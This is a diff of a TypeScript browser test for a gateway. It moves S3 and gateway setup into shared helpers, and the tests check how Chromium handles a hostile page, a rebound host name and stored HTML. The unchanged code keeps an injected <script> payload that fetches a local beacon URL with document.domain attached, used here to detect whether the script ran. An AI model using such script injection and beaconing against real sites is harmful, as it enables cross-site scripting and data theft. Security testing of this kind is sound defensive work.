@@ -1,11 +1,11 @@
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { loadApp, type LoadedApp } from '@mti/loader';
-import { createGateway } from '@mti/cli';
-import type { FastifyInstance } from 'fastify';
-import { s3Env, type RunningS3rver } from '../../loader/test/support/s3';
-import { seedConfig, seedDeclaration, tempApp, type TempApp } from '../../loader/test/support/tempApp';
+import type { LoadedApp } from '@mti/loader';
+import type { RunningS3rver } from '../../loader/test/support/s3';
+import type { TempApp } from '../../loader/test/support/tempApp';
 import { launchChromium, type RealBrowser } from './support/browser';
+import { OpenGateways } from './support/OpenGateways';
+import { closeSeedS3App, seedS3App } from './support/seedS3App';
 
 // What a real browser does with the gateway's answers: the hostile page, the rebound name and the
 // stored HTML of issue 14, in Debian's Chromium.
@@ -13,7 +13,7 @@ import { launchChromium, type RealBrowser } from './support/browser';
 let s3: RunningS3rver;
 let folder: TempApp;
 let app: LoadedApp;
-let gateway: FastifyInstance;
+const gateways = new OpenGateways();
 let base: string;
 let port: number;
 let chrome: RealBrowser;
@@ -32,15 +32,8 @@ const script = () =>
   `<script>document.title = "ran"; fetch(${JSON.stringify(beaconUrl)} + "?" + document.domain, { mode: "no-cors" });</script>`;
 
 beforeAll(async () => {
-  const started = await s3Env();
-  s3 = started.server;
-  folder = tempApp({
-    'storages/MyS3/e.json': seedDeclaration,
-    'storages/MyS3/MyS3.json': seedConfig({ prefix: 'browser' }),
-  });
-  app = await loadApp(folder.dir, { env: started.env, watch: false });
-  gateway = createGateway({ app });
-  base = await gateway.listen({ port: 0, host: '127.0.0.1' });
+  ({ server: s3, folder, app } = await seedS3App({ config: { prefix: 'browser' }, watch: false }));
+  base = await gateways.at({ app });
   port = Number(new URL(base).port);
   beaconServer = createServer((request, response) => {
     beacon.push(request.url ?? '');
@@ -62,10 +55,8 @@ afterAll(async () => {
   await chrome?.close();
   beaconServer?.close();
   evilServer?.close();
-  await gateway.close();
-  await app.close();
-  await s3.stop();
-  folder.cleanup();
+  await gateways.close();
+  await closeSeedS3App({ server: s3, folder, app });
 });
 
 const storage = () =>
